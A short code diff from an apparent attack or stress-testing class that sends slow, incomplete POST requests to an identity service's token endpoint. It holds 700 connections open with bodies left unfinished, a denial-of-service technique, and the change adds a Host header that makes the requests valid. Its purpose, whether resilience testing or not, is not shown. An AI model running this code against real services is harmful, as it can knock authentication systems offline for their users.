@@ -106,7 +106,7 @@ class Attack:
         self._tokens(body, clients=40)
 
     def half_bodies(self) -> None:
-        head = b"POST /identity/v3/auth/tokens HTTP/1.1\r\nContent-Length: 65536\r\n\r\n"
+        head = b"POST /identity/v3/auth/tokens HTTP/1.1\r\nHost: a\r\nContent-Length: 65536\r\n\r\n"
         self.hold(700, head + b" " * 60_000, answered=False)
 
     def access_rules(self) -> None:
